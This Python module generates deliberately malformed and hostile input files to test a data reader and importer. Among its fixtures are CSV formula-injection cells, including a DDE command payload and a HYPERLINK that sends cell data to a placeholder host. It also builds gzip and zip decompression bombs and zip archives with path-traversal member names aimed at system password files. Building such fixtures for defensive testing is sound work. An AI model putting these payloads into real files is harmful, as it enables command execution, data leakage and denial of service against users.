"""A seeded maker of files that go wrong in every way seen or feared, for the reader's and the import's tests."""

import bz2
import gzip
import io
import json
import lzma
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

NAMES = ("permit_number", "owner", "address", "value", "issued_on", "phone", "notes")
WORDS = (
    "pool",
    "roof",
    "Müller",
    "O'Brien",
    '5" pipe',
    "naïve",
    "日本",
    "a,b",
    "x;y",
    "line\nbreak",
    "=1+1",
    "",
)

Maker = Callable[[random.Random, Path], Path]
_MAKERS: dict[str, Maker] = {}


def maker(function: Maker) -> Maker:
    """Registers a kind of hostile file under the function's name."""
    _MAKERS[function.__name__] = function
    return function


def kinds() -> list[str]:
    """The kinds of files there are."""
    return sorted(_MAKERS)


def hostile_files(folder: Path, count: int, seed: int) -> list[Path]:
    """Makes `count` files in the folder, going round the kinds, no two with the same content."""
    names = kinds()
    paths = []
    for place in range(count):
        kind = names[place % len(names)]
        rng = random.Random(f"{seed}-{kind}-{place}")
        below = folder / f"{place:04d}_{kind}"
        below.mkdir(parents=True)
        paths.append(_MAKERS[kind](rng, below))
    return paths


def table(rng: random.Random, rows: int | None = None) -> list[list[str]]:
    """A header and rows of cells with awkward but legitimate text."""
    count = rng.randint(3, 40) if rows is None else rows
    body = [[f"P-{rng.randrange(10**9)}", *(rng.choice(WORDS) for _ in NAMES[1:])] for _ in range(count)]
    return [list(NAMES), *body]


def csv_text(rows: list[list[str]], mark: str = ",", end: str = "\n") -> str:
    """The table as well-formed CSV."""

    def cell(text: str) -> str:
        return '"' + text.replace('"', '""') + '"' if any(c in text for c in f'{mark}"\r\n') else text

    return "".join(mark.join(map(cell, row)) + end for row in rows)


def _save(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _cut(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randint(min(12, len(data) - 1), len(data) - 1)]


def _csv(rng: random.Random, rows: int | None = None) -> bytes:
    return csv_text(table(rng, rows)).encode()


@maker
def truncated_gzip(rng: random.Random, folder: Path) -> Path:
    return _save(folder, "t.csv.gz", _cut(rng, gzip.compress(_csv(rng, 200), mtime=0)))


@maker
def truncated_other(rng: random.Random, folder: Path) -> Path:
    pack, name = rng.choice([(bz2.compress, "t.csv.bz2"), (lzma.compress, "t.csv.xz")])
    return _save(folder, name, _cut(rng, pack(_csv(rng, 200))))


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


@maker
def truncated_zip(rng: random.Random, folder: Path) -> Path:
    return _save(folder, "t.zip", _cut(rng, _zip({"a.csv": _csv(rng, 50)})))


@maker
def flipped_bytes(rng: random.Random, folder: Path) -> Path:
    sources = [
        ("f.csv.gz", gzip.compress(_csv(rng, 100), mtime=0)),
        ("f.zip", _zip({"a.csv": _csv(rng, 100), "b.csv": _csv(rng, 5)})),
        ("f.xlsx", _workbook(rng)),
        ("f.parquet", _parquet(rng)),
        ("f.csv", _csv(rng, 50)),
        ("f.json", _json(rng)),
    ]
    name, data = rng.choice(sources)
    damaged = bytearray(data)
    for _ in range(rng.randint(1, 30)):
        damaged[rng.randrange(len(damaged))] = rng.randrange(256)
    return _save(folder, name, bytes(damaged))


def _workbook(rng: random.Random) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in table(rng):
        sheet.append([cell if rng.random() < 0.8 else rng.randrange(10**6) for cell in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@maker
def truncated_workbook(rng: random.Random, folder: Path) -> Path:
    return _save(folder, "t.xlsx", _cut(rng, _workbook(rng)))


@maker
def wide_workbook(rng: random.Random, folder: Path) -> Path:
    """A few cells in the far corner: a dense grid of it would take all memory."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = f"id{rng.random()}"
    sheet.cell(row=1_048_576, column=16_384, value="far")
    path = folder / "w.xlsx"
    book.save(path)
    return path


def _parquet(rng: random.Random) -> bytes:
    rows = table(rng)
    columns = {name: [row[i] for row in rows[1:]] for i, name in enumerate(NAMES)}
    columns["value"] = [rng.choice([1.5, float("nan"), float("inf"), -0.0]) for _ in rows[1:]]  # type: ignore[misc]
    out = io.BytesIO()
    pq.write_table(pa.table(columns), out)
    return out.getvalue()


@maker
def odd_parquet(rng: random.Random, folder: Path) -> Path:
    data = _parquet(rng)
    return _save(folder, "t.parquet", rng.choice([_cut(rng, data), data, data[:4] + data[40:]]))


def _json(rng: random.Random) -> bytes:
    rows = [dict(zip(NAMES, row, strict=True)) for row in table(rng)[1:]]
    value: object = rng.choice([rows, {"meta": {"count": len(rows)}, "permits": rows}])
    return json.dumps(value, indent=rng.choice([None, 1])).encode()


@maker
def truncated_json(rng: random.Random, folder: Path) -> Path:
    return _save(folder, "t.json", _cut(rng, _json(rng)))


@maker
def deep_json(rng: random.Random, folder: Path) -> Path:
    depth = rng.choice([90, 150, 900, 5_000, 200_000])
    deep = "[" * depth + "1" + "]" * depth if rng.random() < 0.5 else '{"a":' * depth + "1" + "}" * depth
    text = rng.choice(['[{"id":%d},{"x":%s},{"id":3}]', '{"n":%d,"x":%s}', '{"id":%d}\n{"x":%s}\n'])
    return _save(folder, "d.json", (text % (rng.randrange(10**6), deep)).encode())


@maker
def odd_json(rng: random.Random, folder: Path) -> Path:
    bad = [
        '{"a": NaN}',
        '{"a": 1e999, "b": -Infinity}',
        '{"a": "\\ud800", "b": "\\u0000"}',
        '{"a": ' + "9" * rng.choice([30, 6_000]) + "}",
        '{"a": 1, "a": 2}',
        '"text"',
        "[1, 2]",
        "null",
        '{"a": tru}',
        "{'a': 1}",
        '{"a": 01}',
        '{"a" 1}',
        '{"a": "unclosed}',
        '{"": {"": []}}',
        "{}",
    ]
    chosen = [rng.choice(bad) for _ in range(rng.randint(2, 12))] + [f'{{"id": {rng.randrange(10**9)}}}']
    rng.shuffle(chosen)
    if rng.random() < 0.5:
        return _save(folder, "o.jsonl", "\n".join(chosen).encode())
    return _save(folder, "o.json", ("[" + ",".join(chosen) + "]").encode())


@maker
def wrong_encoding(rng: random.Random, folder: Path) -> Path:
    names = (
        "cp1252",
        "latin-1",
        "utf-16",
        "utf-16-le",
        "utf-32",
        "shift_jis",
        "cp1251",
        "utf-7",
        "utf-8-sig",
        "cp037",
    )
    encoding = rng.choice(names)
    return _save(folder, "w.csv", csv_text(table(rng)).encode(encoding, "replace"))


@maker
def undecodable_bytes(rng: random.Random, folder: Path) -> Path:
    data = bytearray(_csv(rng, 60))
    for _ in range(rng.randint(1, 5)):
        data.insert(rng.randrange(len(data)), rng.choice([0x80, 0x9D, 0xC3, 0xFF, 0xFE, 0xED]))
    return _save(folder, "u.csv", bytes(data))


@maker
def formula_cells(rng: random.Random, folder: Path) -> Path:
    evil = (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?"&A1,"go")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    )
    rows = table(rng)
    for row in rows[1:]:
        row[rng.randrange(1, len(row))] = rng.choice(evil)
    return _save(folder, "f.csv", csv_text(rows).encode())


@maker
def giant_cell(rng: random.Random, folder: Path) -> Path:
    size = rng.choices([1_100_000, 4_000_000, 9_000_000, 50_000_000], [8, 4, 2, 1])[0]
    rows = table(rng, 10)
    piece = rng.choice(["x", "é", "word ", "a,b\n", '""'])
    rows[5][6] = piece * (size // len(piece))
    if rng.random() < 0.3:
        records = [dict(zip(NAMES, row, strict=True)) for row in rows[1:]]
        return _save(folder, "g.jsonl", "\n".join(map(json.dumps, records)).encode())
    return _save(folder, "g.csv", csv_text(rows).encode())


@maker
def gzip_bomb(rng: random.Random, folder: Path) -> Path:
    """1.2 GB of one character in a megabyte, as members one after another."""
    member = gzip.compress(b"a,b\n" * 4 + rng.choice([b"0", b"\x00", b"\n"]) * 16_777_216, mtime=0)
    count = rng.choices([3, 75], [9, 1])[0]
    return _save(folder, f"b{rng.random()}.csv.gz", member * count)


@maker
def zip_bomb(rng: random.Random, folder: Path) -> Path:
    """Sizes forged in the archive's directory, or archives in archives."""
    inner = _zip({"a.csv": b"a,b\n" + b"0" * rng.randint(10_000, 1_000_000)})
    if rng.random() < 0.5:
        for level in range(rng.randint(1, 5)):
            inner = _zip({f"{level}.zip": inner, **({"c.csv": _csv(rng)} if rng.random() < 0.3 else {})})
        return _save(folder, "nested.zip", inner)
    place = inner.rindex(b"PK\x01\x02")
    size = struct.pack("<I", rng.choice([3_000_000_000, 4_000_000_000, 10]))
    return _save(folder, "forged.zip", inner[: place + 24] + size + inner[place + 28 :])


@maker
def zip_names(rng: random.Random, folder: Path) -> Path:
    names = (
        "../../etc/passwd.csv",
        "/etc/shadow.csv",
        "C:\\x.csv",
        "a/../../b.csv",
        "\u202etxt.csv",
        "x" * 300,
        "a\x00b",
    )
    chosen = rng.sample(names, rng.randint(1, 3))
    return _save(folder, "names.zip", _zip({name: _csv(rng) for name in chosen}))


@maker
def locked_zip(rng: random.Random, folder: Path) -> Path:
    data = bytearray(_zip({"a.csv": _csv(rng)}))
    data[6] |= 1
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return _save(folder, "locked.zip", bytes(data))


@maker
def nul_bytes(rng: random.Random, folder: Path) -> Path:
    data = bytearray(_csv(rng))
    for _ in range(rng.randint(1, 200)):
        data.insert(rng.randrange(len(data)), 0)
    return _save(folder, "n.csv", bytes(data))


@maker
def uneven_rows(rng: random.Random, folder: Path) -> Path:
    rows = table(rng)
    for row in rows[1:]:
        if rng.random() < 0.3:
            row[:] = row[: rng.randint(0, 6)] or [""]
        elif rng.random() < 0.3:
            row += [rng.choice(WORDS)] * rng.randint(1, 2_000)
    return _save(folder, "m.csv", csv_text(rows).encode())


@maker
def odd_headers(rng: random.Random, folder: Path) -> Path:
    rows = table(rng)
    rows[0] = [rng.choice(["name", "Name", "name_2", "", " ", "a" * 5_000, "\x07", "1", "ü"]) for _ in NAMES]
    rows = rng.choice([rows, rows[:1], [["Report of permits"], [], *rows], [[""] * 7, *rows]])
    return _save(folder, "h.csv", csv_text(rows).encode())


@maker
def million_columns(rng: random.Random, folder: Path) -> Path:
    count = rng.choice([5_001, 20_000, 1_000_000])
    mark = rng.choice([",", ";", "\t"])
    line = mark.join(f"c{i}" for i in range(count))
    return _save(folder, "c.csv", f"{line}\n{mark * (count - 1)}\n{rng.random()}\n".encode())


@maker
def lone_quotes(rng: random.Random, folder: Path) -> Path:
    text = list(_csv(rng, 80).decode())
    for _ in range(rng.randint(1, 20)):
        text.insert(rng.randrange(len(text)), rng.choice(['"', "'", '\\"', '""', "\\"]))
    return _save(folder, "q.csv", "".join(text).encode())


@maker
def line_ends(rng: random.Random, folder: Path) -> Path:
    lines = csv_text(table(rng)).split("\n")
    ends = rng.choice(
        [["\r"], ["\r\n"], ["\n", "\r", "\r\n"], ["\r\r\n"], ["\n\n\n"], ["\x0b"], ["\u2028"], ["\n\r"]]
    )
    return _save(folder, "e.csv", "".join(line + rng.choice(ends) for line in lines).encode())


@maker
def inner_marks(rng: random.Random, folder: Path) -> Path:
    parts = [csv_text(table(rng)).encode("utf-8-sig") for _ in range(rng.randint(2, 4))]
    return _save(folder, "bom.csv", b"".join(parts))


@maker
def random_bytes(rng: random.Random, folder: Path) -> Path:
    magic = rng.choice(
        [
            b"",
            b"PAR1",
            b"PK\x03\x04",
            b"\x1f\x8b\x08",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"[{",
            b"BZh91AY&SY",
        ]
    )
    return _save(
        folder, rng.choice(["r.csv", "r.bin", "r.json"]), magic + rng.randbytes(rng.randint(1, 20_000))
    )


@maker
def nearly_empty(rng: random.Random, folder: Path) -> Path:
    data = rng.choice(
        [
            b"",
            b"\n",
            b" ",
            b"\xef\xbb\xbf",
            b"\x00",
            b",",
            b'"',
            b"[",
            b"{",
            b"]",
            b"\r",
            b"a",
            b"[]",
            b"{}",
            b"\\",
        ]
    )
    return _save(folder, "e.csv", data * rng.randint(1, 400))


@maker
def foreign_files(rng: random.Random, folder: Path) -> Path:
    starts = (
        b"%PDF-1.7\n",
        b"\x89PNG\r\n\x1a\n",
        b"<!DOCTYPE html><html>",
        b"<?xml version='1.0'?>",
        b"\x7fELF",
        b"MZ\x90",
    )
    return _save(folder, "page.csv", rng.choice(starts) + str(rng.random()).encode() * 50)


@maker
def links(rng: random.Random, folder: Path) -> Path:
    target = rng.choice(["loop", "nowhere", ".", "real.csv"])
    _save(folder, "real.csv", _csv(rng))
    path = folder / "loop"
    path.symlink_to(target)
    return path


@maker
def wrong_name(rng: random.Random, folder: Path) -> Path:
    data = rng.choice(
        [_workbook(rng), _parquet(rng), _json(rng), gzip.compress(_csv(rng), mtime=0), _zip({"x": _csv(rng)})]
    )
    return _save(folder, rng.choice(["n.csv", "n.json", "n.xlsx", "n.parquet", "n.txt"]), data)
